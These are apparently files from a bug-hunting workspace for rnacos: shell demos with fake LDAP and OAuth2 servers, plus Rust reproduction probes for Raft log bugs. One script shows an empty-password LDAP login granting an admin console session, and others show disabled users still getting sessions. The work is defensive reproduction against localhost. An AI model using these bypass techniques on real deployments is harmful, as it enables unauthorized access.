    }
}

use rustc_session::config::CrateType as rustc_session_crate_type;
extern crate rustc_session;

fn main() {
    let mut args: Vec<String> = std::env::args().collect();
    // as RUSTC_WORKSPACE_WRAPPER: argv[1] is the real rustc path
    if args.len() > 1 && (args[1].ends_with("rustc") || args[1].contains("/rustc")) {
        args.remove(1);
    }
    let out_dir = std::env::var("RNFACTS_OUT").unwrap_or_else(|_| ".".to_string());
    let only = std::env::var("RNFACTS_CRATE").unwrap_or_else(|_| "rnacos".to_string());
    // find crate name among args
    let mut crate_name = String::new();
    for i in 0..args.len() {
        if args[i] == "--crate-name" && i + 1 < args.len() {
            crate_name = args[i + 1].clone();
        }
    }
    let is_test = args.iter().any(|a| a == "--test");
    if crate_name != only || is_test {
        struct Nop;
        impl rustc_driver::Callbacks for Nop {}
        rustc_driver::run_compiler(&args, &mut Nop);
        return;
    }
    let mut cb = Cb { out_dir };
    rustc_driver::run_compiler(&args, &mut cb);
}
