#!/bin/bash
# D2: with LDAP login enabled the console login hands an EMPTY password to an LDAP simple bind.
# An LDAP server answers such an "unauthenticated bind" (RFC 4513 5.1.2) with success without
# authenticating anybody, so anyone who knows (or guesses) a user name gets a console session.
# usage: hunt/d2_demo.sh            (needs target/debug/rnacos: cargo build --offline)
# exit code 1 = defect shown, 0 = behaves correctly
cd "$(dirname "$0")/.." || exit 2
BIN=target/debug/rnacos
RUN=$(mktemp -d /tmp/hc17_d2.XXXXXX)
LDAP_PORT=47862
C=http://127.0.0.1:47851
python3 hunt/fake_ldap.py $LDAP_PORT > $RUN/ldap.log 2>&1 &
FAKE_PID=$!
sleep 0.5
env RNACOS_HTTP_PORT=47841 RNACOS_GRPC_PORT=47941 RNACOS_HTTP_CONSOLE_PORT=47851 \
    RNACOS_RAFT_NODE_ID=1 RNACOS_RAFT_NODE_ADDR=127.0.0.1:47941 RNACOS_DATA_DIR=$RUN/d1 \
    RNACOS_CONSOLE_ENABLE_CAPTCHA=false RUST_LOG=warn \
    RNACOS_LDAP_ENABLE=true RNACOS_LDAP_URL=ldap://127.0.0.1:$LDAP_PORT \
    RNACOS_LDAP_USER_BASE_DN=ou=people,dc=example,dc=org \
    "RNACOS_LDAP_USER_FILTER=(&(objectClass=person)(uid=%s))" \
    RNACOS_LDAP_USER_ADMIN_GROUP=rnacos_admin \
    $BIN > $RUN/node.log 2>&1 &
NODE_PID=$!
trap 'kill $NODE_PID $FAKE_PID 2>/dev/null; rm -rf $RUN' EXIT
sleep 4

login() { curl -s -X POST $C/rnacos/api/console/v2/login/login --data-urlencode "username=$1" --data-urlencode "password=$(printf '%s' "$2" | base64)"; }
short() { sed 's/"token":"\([a-f0-9]\{8\}\)[a-f0-9]*"/"token":"\1.."/'; }
tok() { sed -n 's/.*"token":"\([a-f0-9]*\)".*/\1/p'; }

echo "1. alice, right LDAP password : $(login alice alicepw | short)"
echo "2. alice, wrong LDAP password : $(login alice nonsense | short)"
R=$(login alice "")
echo "3. alice, EMPTY password      : $(echo "$R" | short)"
T=$(echo "$R" | tok)
if [ -n "$T" ]; then
    echo "   session of that login    : $(curl -s $C/rnacos/api/console/v2/user/info -H "Token: $T")"
    echo "   it reads configurations  : $(curl -s "$C/rnacos/api/console/v2/config/list?pageNo=1&pageSize=1" -H "Token: $T" | head -c 100)"
fi
R2=$(login "no-such-user-$$" "")
echo "4. unknown user, EMPTY passwd : $(echo "$R2" | short)"
echo "--- what the LDAP server saw"
cat $RUN/ldap.log

FAIL=0
case "$R" in *'"success":true'*) echo "DEFECT: a login without any password produced a valid console session for alice"; FAIL=1;; esac
case "$R2" in *'"success":true'*) echo "DEFECT: a login without any password produced a valid console session for a user that does not exist"; FAIL=1;; esac
[ $FAIL = 0 ] && echo "OK: an empty password never reaches the LDAP bind and gives no session"
exit $FAIL
