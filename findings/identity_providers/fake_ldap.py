#!/usr/bin/env python3
"""Minimal LDAPv3 server for d2_demo.sh.

Directory: uid=alice,ou=people,dc=example,dc=org  password "alicepw", memberOf cn=rnacos_admin,...
Behaviour that matters for the demo (RFC 4513 section 5.1.2, the default of e.g. Active Directory
before the 2019 hardening switch and of OpenLDAP with `allow bind_anon_dn`):
  * simple bind with a DN and an EMPTY password = "unauthenticated bind": the server answers
    success and the connection is ANONYMOUS (nobody was authenticated);
  * simple bind with a wrong non-empty password -> invalidCredentials(49);
  * a search on an anonymous connection returns no entries.
"""
import socketserver
import sys

BASE = "ou=people,dc=example,dc=org"
USERS = {"uid=alice," + BASE: ("alicepw", "alice", ["cn=rnacos_admin,ou=groups,dc=example,dc=org"])}


def enc_len(n):
    if n < 0x80:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([0x80 | len(b)]) + b


def tlv(tag, content):
    return bytes([tag]) + enc_len(len(content)) + content


def enc_int(v):
    return tlv(0x02, v.to_bytes(max(1, (v.bit_length() + 8) // 8), "big"))


def octets(s):
    return tlv(0x04, s.encode() if isinstance(s, str) else s)


def ldap_result(code):
    return tlv(0x0A, bytes([code])) + octets("") + octets("")


def read_tlv(buf, pos):
    tag = buf[pos]
    l = buf[pos + 1]
    pos += 2
    if l & 0x80:
        n = l & 0x7F
        l = int.from_bytes(buf[pos:pos + n], "big")
        pos += n
    return tag, buf[pos:pos + l], pos + l


def msg_end(buf):
    """end offset of the first complete TLV in buf, or None"""
    if len(buf) < 2:
        return None
    l = buf[1]
    pos = 2
    if l & 0x80:
        n = l & 0x7F
        if len(buf) < 2 + n:
            return None
        l = int.from_bytes(buf[2:2 + n], "big")
        pos += n
    return pos + l if len(buf) >= pos + l else None


class Handler(socketserver.BaseRequestHandler):
    def handle(self):
        buf = b""
        bound = None  # None = anonymous
        while True:
            # read one complete LDAPMessage
            while msg_end(buf) is None:
                chunk = self.request.recv(4096)
                if not chunk:
                    return
                buf += chunk
            _t, msg, end = read_tlv(buf, 0)
            buf = buf[end:]
            _t, mid, p = read_tlv(msg, 0)
            msg_id = int.from_bytes(mid, "big")
            op = msg[p]
            _t, body, _ = read_tlv(msg, p)
            if op == 0x60:  # BindRequest
                _t, _ver, q = read_tlv(body, 0)
                _t, name, q = read_tlv(body, q)
                atag, cred, q = read_tlv(body, q)
                name = name.decode()
                cred = cred.decode()
                if atag != 0x80:
                    code = 7  # authMethodNotSupported
                elif cred == "":
                    bound, code = None, 0  # unauthenticated bind: success, anonymous
                elif name in USERS and USERS[name][0] == cred:
                    bound, code = name, 0
                else:
                    bound, code = None, 49
                print("LDAP bind dn=%r password=%r -> resultCode %d, connection is %s" % (
                    name, cred, code, bound or "ANONYMOUS"), flush=True)
                self.send(msg_id, tlv(0x61, ldap_result(code)))
            elif op == 0x63:  # SearchRequest
                if bound is not None:
                    _pw, cn, groups = USERS[bound]
                    attrs = tlv(0x30, octets("cn") + tlv(0x31, octets(cn)))
                    attrs += tlv(0x30, octets("memberOf") + tlv(0x31, b"".join(octets(g) for g in groups)))
                    self.send(msg_id, tlv(0x64, octets(bound) + tlv(0x30, attrs)))
                print("LDAP search as %s -> %d entries" % (bound or "ANONYMOUS", 1 if bound else 0), flush=True)
                self.send(msg_id, tlv(0x65, ldap_result(0)))
            elif op == 0x42:  # UnbindRequest
                return
            elif op == 0x77:  # ExtendedRequest: not supported
                self.send(msg_id, tlv(0x78, ldap_result(2)))
            else:
                return

    def send(self, msg_id, op):
        self.request.sendall(tlv(0x30, enc_int(msg_id) + op))


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


Server(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
