#!/bin/bash
# D3: a user that the administrator disabled in user management still gets a fresh console
# session through the LDAP login (sibling of D1 in src/ldap/ldap_msg_actor.rs).
# usage: hunt/d3_demo.sh            (needs target/debug/rnacos: cargo build --offline)
# exit code 1 = defect shown, 0 = behaves correctly
cd "$(dirname "$0")/.." || exit 2
BIN=target/debug/rnacos
RUN=$(mktemp -d /tmp/hc17_d3.XXXXXX)
LDAP_PORT=47862
C=http://127.0.0.1:47851
python3 hunt/fake_ldap.py $LDAP_PORT > $RUN/ldap.log 2>&1 &
FAKE_PID=$!
sleep 0.5
env RNACOS_HTTP_PORT=47841 RNACOS_GRPC_PORT=47941 RNACOS_HTTP_CONSOLE_PORT=47851 \
    RNACOS_RAFT_NODE_ID=1 RNACOS_RAFT_NODE_ADDR=127.0.0.1:47941 RNACOS_DATA_DIR=$RUN/d1 \
    RNACOS_CONSOLE_ENABLE_CAPTCHA=false RUST_LOG=warn \
    RNACOS_LDAP_ENABLE=true RNACOS_LDAP_URL=ldap://127.0.0.1:$LDAP_PORT \
    RNACOS_LDAP_USER_BASE_DN=ou=people,dc=example,dc=org \
    "RNACOS_LDAP_USER_FILTER=(&(objectClass=person)(uid=%s))" \
    RNACOS_LDAP_USER_ADMIN_GROUP=rnacos_admin \
    $BIN > $RUN/node.log 2>&1 &
NODE_PID=$!
trap 'kill $NODE_PID $FAKE_PID 2>/dev/null; rm -rf $RUN' EXIT
sleep 4

login() { curl -s -X POST $C/rnacos/api/console/v2/login/login --data-urlencode "username=$1" --data-urlencode "password=$(printf '%s' "$2" | base64)"; }
short() { sed 's/"token":"\([a-f0-9]\{8\}\)[a-f0-9]*"/"token":"\1.."/'; }
tok() { sed -n 's/.*"token":"\([a-f0-9]*\)".*/\1/p'; }

ADMIN=$(login admin admin | tok)
echo "1. local admin logged in: ${ADMIN:0:8}.."
A1=$(login alice alicepw | tok)
echo "2. alice logs in through LDAP (first time, her user record is created): ${A1:0:8}.."
curl -s -X POST $C/rnacos/api/console/v2/login/logout -H "Token: $A1" > /dev/null
echo "3. admin disables alice  : $(curl -s -X POST $C/rnacos/api/console/v2/user/update -H "Token: $ADMIN" -H 'Content-Type: application/json' -d '{"username":"alice","enable":false}')"
sleep 1
echo "   user list             : $(curl -s "$C/rnacos/api/console/v2/user/list?likeUsername=alice" -H "Token: $ADMIN" | grep -o '"username":"alice"[^}]*"roles":\[[^]]*\]' | sed 's/"passwordHash":[^,]*,//')"
R=$(login alice alicepw)
echo "4. alice logs in again   : $(echo "$R" | short)"
T=$(echo "$R" | tok)
[ -n "$T" ] && echo "   she lists the users   : $(curl -s "$C/rnacos/api/console/v2/user/list?pageNo=1&pageSize=10" -H "Token: $T" | head -c 60).."

case "$R" in
*'"success":true'*) echo "DEFECT: alice is disabled (enable=false) but a fresh LDAP login still gives her a session"; exit 1;;
*) echo "OK: a disabled user gets no session"; exit 0;;
esac
