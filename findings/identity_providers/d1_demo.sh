#!/bin/bash
# D1: a fresh OAuth2 login ignores the roles / enable flag the administrator stored for that user.
# usage: hunt/d1_demo.sh            (needs target/debug/rnacos: cargo build --offline)
# exit code 1 = defect shown, 0 = behaves correctly
cd "$(dirname "$0")/.." || exit 2
BIN=target/debug/rnacos
RUN=$(mktemp -d /tmp/hc17_d1.XXXXXX)
OAUTH_PORT=47861
C=http://127.0.0.1:47851
python3 hunt/fake_oauth2.py $OAUTH_PORT &
FAKE_PID=$!
env RNACOS_HTTP_PORT=47841 RNACOS_GRPC_PORT=47941 RNACOS_HTTP_CONSOLE_PORT=47851 \
    RNACOS_RAFT_NODE_ID=1 RNACOS_RAFT_NODE_ADDR=127.0.0.1:47941 RNACOS_DATA_DIR=$RUN/d1 \
    RNACOS_CONSOLE_ENABLE_CAPTCHA=false RUST_LOG=warn \
    RNACOS_OAUTH2_ENABLE=true RNACOS_OAUTH2_CLIENT_ID=cid RNACOS_OAUTH2_CLIENT_SECRET=sec \
    RNACOS_OAUTH2_AUTHORIZATION_URL=http://127.0.0.1:$OAUTH_PORT/authorize \
    RNACOS_OAUTH2_TOKEN_URL=http://127.0.0.1:$OAUTH_PORT/token \
    RNACOS_OAUTH2_USERINFO_URL=http://127.0.0.1:$OAUTH_PORT/userinfo \
    RNACOS_OAUTH2_REDIRECT_URI=http://127.0.0.1:47851/rnacos/p/login \
    no_proxy=127.0.0.1 NO_PROXY=127.0.0.1 \
    $BIN > $RUN/node.log 2>&1 &
NODE_PID=$!
trap 'kill $NODE_PID $FAKE_PID 2>/dev/null; rm -rf $RUN' EXIT
sleep 4

tok() { sed -n 's/.*"token":"\([a-f0-9]*\)".*/\1/p'; }
oauth_login() { curl -s -X POST $C/rnacos/api/console/v2/login/oauth2/login -H 'Content-Type: application/json' -d "{\"code\":\"$1\"}"; }
add_cfg() { curl -s -X POST $C/rnacos/api/console/v2/config/add -H "Token: $1" -H 'Content-Type: application/json' -d "{\"dataId\":\"$2\",\"group\":\"g\",\"content\":\"x\"}"; }

ADMIN=$(curl -s -X POST $C/rnacos/api/console/v2/login/login -d "username=admin&password=$(printf admin | base64)" | tok)
echo "1. admin logged in: ${ADMIN:0:8}.."

echo "2. bob logs in through OAuth2 for the first time (default role DEVELOPER is stored for him)"
B1=$(oauth_login bob | tok)
echo "   bob adds a config : $(add_cfg $B1 c1)"

echo "3. admin makes bob a VISITOR (roles=2) in user management"
echo "   update            : $(curl -s -X POST $C/rnacos/api/console/v2/user/update -H "Token: $ADMIN" -H 'Content-Type: application/json' -d '{"username":"bob","roles":"2"}')"
sleep 1
echo "   user list         : $(curl -s "$C/rnacos/api/console/v2/user/list?likeUsername=bob" -H "Token: $ADMIN" | grep -o '"username":"bob"[^}]*"roles":\[[^]]*\]' | sed 's/"passwordHash":[^,]*,//')"
curl -s -X POST $C/rnacos/api/console/v2/login/logout -H "Token: $B1" > /dev/null

echo "4. bob logs in again through OAuth2 (a FRESH session, not the stale-session case)"
B2=$(oauth_login bob | tok)
R1=$(add_cfg $B2 c2)
echo "   bob adds a config : $R1"
echo "   bob web resources : $(curl -s $C/rnacos/api/console/v2/user/web_resources -H "Token: $B2" | grep -o 'CONFIG_UPDATE\|NAMESPACE_UPDATE' | sort | tr '\n' ' ')"

echo "5. admin disables bob (enable=false)"
echo "   update            : $(curl -s -X POST $C/rnacos/api/console/v2/user/update -H "Token: $ADMIN" -H 'Content-Type: application/json' -d '{"username":"bob","enable":false}')"
sleep 1
curl -s -X POST $C/rnacos/api/console/v2/login/logout -H "Token: $B2" > /dev/null
R2=$(oauth_login bob)
echo "   bob OAuth2 login  : $(echo "$R2" | sed 's/"token":"\([a-f0-9]\{8\}\)[a-f0-9]*"/"token":"\1.."/')"

FAIL=0
case "$R1" in *NO_PERMISSION*) ;; *) echo "DEFECT: bob is stored as VISITOR but his fresh OAuth2 session may change configuration"; FAIL=1;; esac
case "$R2" in *'"success":true'*) echo "DEFECT: bob is disabled but a fresh OAuth2 login still gives him a session"; FAIL=1;; esac
[ $FAIL = 0 ] && echo "OK: stored roles and enable flag are honoured"
exit $FAIL
