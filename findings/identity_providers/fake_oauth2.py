#!/usr/bin/env python3
"""Minimal OAuth2 provider for d1_demo.sh: the authorization code doubles as the user name."""
import json
import sys
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import parse_qs


class H(BaseHTTPRequestHandler):
    def _json(self, obj):
        b = json.dumps(obj).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(b)))
        self.end_headers()
        self.wfile.write(b)

    def do_POST(self):  # token endpoint
        n = int(self.headers.get("Content-Length", "0"))
        form = parse_qs(self.rfile.read(n).decode())
        code = form.get("code", ["nobody"])[0]
        self._json({"access_token": code, "token_type": "bearer", "expires_in": 3600})

    def do_GET(self):  # userinfo endpoint
        tok = self.headers.get("Authorization", "Bearer nobody").split(" ", 1)[1]
        self._json({"username": tok, "name": tok})

    def log_message(self, *a):
        pass


HTTPServer(("127.0.0.1", int(sys.argv[1])), H).serve_forever()
