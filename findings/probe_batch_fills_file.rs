// Throw-away reproduction probe (append to src/raft/filestore/raftlog/mod.rs of a scratch copy; `cargo test --lib probe_batch_whose`, ~10 s).
// FAILS before the fix commit "a batch whose last record fills the log file was answered as failed", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_batch_fills_file {
    use super::*;
    fn rec(index: u64, term: u64, n: usize) -> LogRecordDto {
        LogRecordDto { index, term, value: vec![7u8; n] }
    }
    // single-record batches (what a follower receives under light load) until the log file is full: the batch whose record fills the file
    // was written completely and must be acknowledged as such
    #[tokio::test]
    async fn probe_batch_whose_last_record_fills_the_file() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_f").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p, 0, 0, 0).await.unwrap();
        let mut i = 0u64;
        loop {
            let r = mgr.handle_request(RaftLogRequest::WriteBatch(vec![rec(i, 1, 130)], 0)).await.unwrap();
            match r {
                RaftLogResponse::WriteResult(LogWriteResult::Success) => {}
                RaftLogResponse::WriteResult(LogWriteResult::SuccessToEnd(end, _)) => {
                    assert_eq!(end, i + 1);
                    break;
                }
                RaftLogResponse::WriteResult(LogWriteResult::FailureBatch(end, _, list, resume)) => {
                    panic!("record {} was written (end index {}) but the batch is reported as failed with resume index {} of {} records: the manager resends list[{}..]",
                        i, end, resume, list.len(), resume);
                }
                _ => panic!("unexpected result at record {}", i),
            }
            i += 1;
            assert!(i < 400_000, "file never filled");
        }
    }
}
