// Throw-away reproduction probe (append to src/naming/core.rs of a scratch copy; `cargo test --lib probe_synced_instance`).
// FAILS before the fix commit "an instance of an owned service that arrives through a sync was never expired", passes after.
// Not part of any registered check.

#[cfg(test)]
mod probe_sync_owned {
    use super::*;
    use crate::naming::cluster::model::ProcessRange;

    fn http_instance(from_cluster: u64) -> Instance {
        let mut instance = Instance::new("10.0.0.7".to_owned(), 8080);
        instance.namespace_id = Arc::new("public".to_owned());
        instance.service_name = Arc::new("s1".to_owned());
        instance.group_name = Arc::new("DEFAULT_GROUP".to_owned());
        instance.from_cluster = from_cluster;
        instance
    }

    // an HTTP instance of a service this node owns arrives through a sync / snapshot from a peer (e.g. after this node restarted);
    // its client is dead: no heartbeat ever arrives. The owner must still expire it.
    #[actix_rt::test]
    async fn probe_synced_instance_in_owned_range_expires() {
        let mut naming = NamingActor::new();
        naming.sys_config.instance_health_timeout_millis = 500;
        naming.sys_config.instance_timeout_millis = 1200;
        naming.current_range = Some(ProcessRange::new(0, 1));
        let instance = http_instance(2);
        let key = instance.get_service_key();
        let short_key = instance.get_short_key();
        naming.update_instance(&key, instance, None, true, None);
        assert_eq!(naming.get_instance(&key, &short_key).unwrap().from_cluster, 0, "in range: taken as local");
        for _ in 0..6 {
            tokio::time::sleep(Duration::from_millis(500)).await;
            naming.time_check();
        }
        assert!(naming.get_instance(&key, &short_key).is_none(), "synced instance of an owned service is never expired");
    }
}
