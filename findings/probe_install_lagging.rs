// Throw-away reproduction probe (append to src/raft/filestore/raftapply.rs of a scratch copy; `cargo test --lib probe_lagging_follower`).
// FAILS before the fix commit "a follower whose log is older than the installed snapshot kept that log" (last log index 5 instead of 500),
// passes after. Not part of any registered check.

#[cfg(test)]
mod probe_install_lagging {
    use super::*;
    use crate::raft::filestore::core::FileStore;
    use crate::raft::filestore::raftsnapshot::SnapshotWriter;
    use crate::raft::store::ClientRequest;
    use async_raft_ext::raft::{Entry, EntryPayload};
    use async_raft_ext::RaftStorage;
    use std::collections::HashMap;
    use std::path::Path;
    use std::time::Duration;

    fn entry(index: u64, term: u64) -> Entry<ClientRequest> {
        Entry { term, index, payload: EntryPayload::Blank }
    }

    // a follower that holds entries 1..=5 falls behind; the leader compacts at index 500 and catches it up with that snapshot
    // (async-raft passes delete_through = None when the whole local log is older than the snapshot); replication continues at 501
    #[actix::test]
    async fn probe_lagging_follower_continues_after_install() {
        let temp = tempfile::tempdir().unwrap();
        let base_path = Arc::new(temp.path().to_string_lossy().into_owned());
        let index_manager = RaftIndexManager::new(base_path.clone()).start();
        let log_manager = RaftLogManager::new(base_path.clone(), Some(index_manager.clone())).start();
        let snapshot_manager = RaftSnapshotManager::new(base_path.clone(), Some(index_manager.clone())).start();
        let apply_manager = StateApplyManager { index_manager: Some(index_manager.clone()), snapshot_manager: None,
            log_manager: Some(log_manager.clone()), data_wrap: None, snapshot_next_index: 1, last_applied_log: 0 }.start();
        let store = FileStore::new(2, index_manager.clone(), snapshot_manager, log_manager, apply_manager);
        let old: Vec<Entry<ClientRequest>> = (1..=5).map(|i| entry(i, 1)).collect();
        store.replicate_to_log(&old).await.unwrap();
        assert_eq!(store.get_last_log_index().await.unwrap().index, 5);

        let (id, file) = store.create_snapshot().await.unwrap();
        drop(file);
        let snapshot_path = Path::new(base_path.as_str()).join(format!("snapshot_{}", id)).to_string_lossy().into_owned();
        let mut node_addrs = HashMap::new();
        node_addrs.insert(1, Arc::new("127.0.0.1:9848".to_owned()));
        node_addrs.insert(2, Arc::new("127.0.0.1:9849".to_owned()));
        let header = SnapshotHeaderDto { last_index: 500, last_term: 3, member: vec![1, 2], member_after_consensus: vec![], node_addrs };
        let mut writer = SnapshotWriter::init(&snapshot_path, header).await.unwrap();
        writer.flush().await.unwrap();
        drop(writer);
        let file = tokio::fs::OpenOptions::new().read(true).write(true).open(&snapshot_path).await.unwrap();
        store.finalize_snapshot_installation(500, 3, None, id, Box::new(file)).await.unwrap();
        tokio::time::sleep(Duration::from_millis(300)).await;
        assert_eq!(store.get_last_log_index().await.unwrap().index, 500, "after the install the log stands at the snapshot index");
        // the leader's next append
        store.replicate_to_log(&[entry(501, 3)]).await.expect("the entry that follows the snapshot is refused");
        assert_eq!(store.get_last_log_index().await.unwrap().index, 501);
        assert!(store.get_log_entries(1, 6).await.unwrap().is_empty(), "entries older than the snapshot are still served");
    }
}
