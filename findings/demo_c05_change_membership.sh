#!/bin/bash
# usage: cluster_demo.sh <rnacos binary>
BIN=$1
R=/tmp/cl; rm -rf $R; mkdir -p $R
start() { i=$1
  local join=""; [ $i != 1 ] && join="RNACOS_RAFT_JOIN_ADDR=127.0.0.1:2994"1
  env RNACOS_HTTP_PORT=2884$i RNACOS_GRPC_PORT=2994$i RNACOS_HTTP_CONSOLE_PORT=2885$i RNACOS_RAFT_NODE_ID=$i RNACOS_RAFT_NODE_ADDR=127.0.0.1:2994$i $join RNACOS_DATA_DIR=$R/d$i RUST_LOG=warn $BIN >> $R/n$i.log 2>&1 &
  echo $! > $R/pid$i
}
metrics() { curl -s -m 3 http://127.0.0.1:2884$1/nacos/v1/raft/metrics | python3 -c "import sys,json; m=json.load(sys.stdin); print('node',m['id'],'state',m['state'],'leader',m['current_leader'],'members',sorted(m['membership_config']['members']), 'after', m['membership_config'].get('members_after_consensus'))" 2>/dev/null || echo "node $1: no answer"; }
start 1; sleep 4; start 2; sleep 3; start 3; sleep 5
echo "== cluster formed"; metrics 1; metrics 2; metrics 3
curl -s -X POST http://127.0.0.1:28841/nacos/v1/cs/configs -d "dataId=a&group=g&content=v1" -w ' publish %{http_code}\n'
echo "== scale down to [1] through POST /nacos/v1/raft/change-membership (book/src/cluster_deploy.md)"
curl -s -m 20 -X POST -H 'Content-Type: application/json' http://127.0.0.1:28841/nacos/v1/raft/change-membership -d '[1]' -w ' %{http_code}\n'
sleep 2; metrics 1
kill $(cat $R/pid2) $(cat $R/pid3); sleep 1
curl -s -X POST http://127.0.0.1:28841/nacos/v1/cs/configs -d "dataId=a&group=g&content=v2" -w ' publish alone %{http_code}\n'
echo "== restart node 1 alone"
kill $(cat $R/pid1); sleep 2; start 1; sleep 6
metrics 1
curl -s -m 8 -X POST http://127.0.0.1:28841/nacos/v1/cs/configs -d "dataId=a&group=g&content=v3" -w ' publish after restart %{http_code}\n'
curl -s -m 3 "http://127.0.0.1:28841/nacos/v1/cs/configs?dataId=a&group=g" -w ' get %{http_code}\n'
kill $(cat $R/pid1) 2>/dev/null
