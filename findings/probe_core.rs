// Throw-away reproduction probes (append to src/raft/filestore/core.rs of a scratch copy; `cargo test --lib probe_`).
// probe_truncate_across_files_then_restart FAILS on the current tree (known finding R02f/R03c); probe_install_snapshot_over_leftover_file failed before fix commit.

#[cfg(test)]
mod probe_tests {
    use super::*;
    use crate::raft::filestore::raftlog::RaftLogManager;
    use async_raft_ext::raft::EntryPayload;

    fn entry(index: u64, term: u64) -> Entry<ClientRequest> {
        Entry { term, index, payload: EntryPayload::Blank }
    }

    fn store_at(base: &str) -> FileStore {
        let base_path = Arc::new(base.to_string());
        let index_manager = RaftIndexManager::new(base_path.clone()).start();
        let log_manager = RaftLogManager::new(base_path.clone(), Some(index_manager.clone())).start();
        let snapshot_manager = RaftSnapshotManager::new(base_path.clone(), Some(index_manager.clone())).start();
        let apply_manager = StateApplyManager::new().start();
        FileStore::new(1, index_manager, snapshot_manager, log_manager, apply_manager)
    }

    // R02f / R03c: truncation across a file boundary, then restart
    #[actix::test]
    async fn probe_truncate_across_files_then_restart() {
        let temp = tempfile::tempdir().unwrap();
        let dir_a = temp.path().join("a");
        std::fs::create_dir_all(&dir_a).unwrap();
        let store = store_at(dir_a.to_str().unwrap());
        // fill the first log file until the store rolls over to a second one
        let mut next = 1u64;
        loop {
            let batch: Vec<Entry<ClientRequest>> = (next..next + 2000).map(|i| entry(i, 1)).collect();
            store.replicate_to_log(&batch).await.unwrap();
            next += 2000;
            if dir_a.join("log_2").exists() {
                break;
            }
            assert!(next < 600_000, "no rollover");
        }
        // some more entries into the second file
        let batch: Vec<Entry<ClientRequest>> = (next..next + 100).map(|i| entry(i, 1)).collect();
        store.replicate_to_log(&batch).await.unwrap();
        next += 100;
        let last = next - 1;
        // conflict truncation at k, inside the first file
        let k = 1000u64;
        store.delete_logs_from(k, None).await.unwrap();
        assert!(store.get_log_entries(k, k + 5).await.unwrap().is_empty());
        // the follower now receives the leader's entries from k on (term 2)
        let batch: Vec<Entry<ClientRequest>> = (k..k + 10).map(|i| entry(i, 2)).collect();
        store.replicate_to_log(&batch).await.unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(1200)).await; // periodic flush
        // "restart": a second store over a copy of the data directory (the first one still holds the lock file)
        let dir_b = temp.path().join("b");
        std::fs::create_dir_all(&dir_b).unwrap();
        for f in std::fs::read_dir(&dir_a).unwrap() {
            let f = f.unwrap();
            if f.file_name() != "db_lock" {
                std::fs::copy(f.path(), dir_b.join(f.file_name())).unwrap();
            }
        }
        let store2 = store_at(dir_b.to_str().unwrap());
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        let info = store2.get_last_log_index().await.unwrap();
        let stale = store2.get_log_entries(last - 5, last + 1).await.unwrap();
        println!("after restart: last index {} term {}, stale entries served: {}", info.index, info.term, stale.len());
        assert_eq!(info.index, k + 9, "last log index after restart must be the last acknowledged entry");
        assert!(stale.is_empty(), "entries removed by delete_logs_from are served again after restart");
    }

    // R01c / R08c: install file left over from an interrupted earlier install of the same id
    #[actix::test]
    async fn probe_install_snapshot_over_leftover_file() {
        use crate::raft::filestore::model::{SnapshotHeaderDto, SnapshotRecordDto};
        use crate::raft::filestore::raftsnapshot::{SnapshotReader, SnapshotWriter};
        use tokio::io::AsyncWriteExt;
        let temp = tempfile::tempdir().unwrap();
        let store = store_at(temp.path().to_str().unwrap());
        let image = |n: usize| {
            let p = temp.path().join(format!("img{}", n)).to_string_lossy().into_owned();
            async move {
                let header = SnapshotHeaderDto { last_index: 10, last_term: 1, member: vec![1], member_after_consensus: vec![], node_addrs: Default::default() };
                let mut w = SnapshotWriter::init(&p, header).await.unwrap();
                for i in 0..n {
                    w.write_record(&SnapshotRecordDto { tree: Arc::new("T_CONFIG".to_string()), key: vec![i as u8; 8], value: vec![1u8; 32], op_type: 0 }).await.unwrap();
                }
                w.flush().await.unwrap();
                drop(w);
                std::fs::read(&p).unwrap()
            }
        };
        let big = image(5).await;
        let small = image(1).await;
        // first attempt: all chunks received, then the node dies before finalize
        let (id1, mut f1) = store.create_snapshot().await.unwrap();
        f1.write_all(&big).await.unwrap();
        f1.flush().await.unwrap();
        drop(f1);
        // second attempt after the leader compacted again: a smaller snapshot, same id because nothing was catalogued
        let (id2, mut f2) = store.create_snapshot().await.unwrap();
        assert_eq!(id1, id2);
        f2.write_all(&small).await.unwrap();
        f2.flush().await.unwrap();
        drop(f2);
        let path = temp.path().join(format!("snapshot_{}", id2)).to_string_lossy().into_owned();
        let mut r = SnapshotReader::init(&path).await.unwrap();
        let mut n = 0;
        while let Ok(Some(_)) = r.read_record().await { n += 1; }
        assert_eq!(n, 1, "records of the interrupted earlier install are read back");
    }
}
