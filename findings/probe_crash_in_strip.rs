// Throw-away reproduction probe (append to src/raft/filestore/raftlog/mod.rs of a scratch copy; `cargo test --lib probe_kill_between`).
// FAILS before the fix commit "recovery dropped the records it had scanned when it ran into end of file", passes after. Not part of any registered check.

#[cfg(test)]
mod probe_crash_in_strip {
    use super::*;
    fn rec(index: u64, term: u64) -> LogRecordDto {
        LogRecordDto { index, term, value: vec![7u8; 20] }
    }
    // strip_log_to erases the suffix with set_len(data_cursor) followed by set_len(file_len). The process is killed between the two calls:
    // the file then ends exactly at the last kept record. Reopening must still find the 6 kept entries.
    #[tokio::test]
    async fn probe_kill_between_the_two_set_len_of_strip() {
        let temp = tempfile::tempdir().unwrap();
        let p = temp.path().join("log_k").to_string_lossy().into_owned();
        let mut mgr = LogInnerManager::init(p.clone(), 0, 0, 0).await.unwrap();
        for i in 0..10u64 {
            mgr.write(&rec(i, 1)).await.unwrap();
        }
        mgr.strip_log_to(6).await.unwrap();
        mgr.flush_log().await.unwrap();
        let cut = mgr.data_cursor;
        drop(mgr);
        // the crash image: same bytes, length = data_cursor
        let image = temp.path().join("log_k_image").to_string_lossy().into_owned();
        std::fs::copy(&p, &image).unwrap();
        let f = std::fs::OpenOptions::new().write(true).open(&image).unwrap();
        f.set_len(cut).unwrap();
        drop(f);
        let mgr = LogInnerManager::init(image, 0, 0, 0).await.unwrap();
        assert_eq!(mgr.get_end_index(), 6, "entries kept by the truncation are lost when the process dies between the two set_len calls");
    }
}
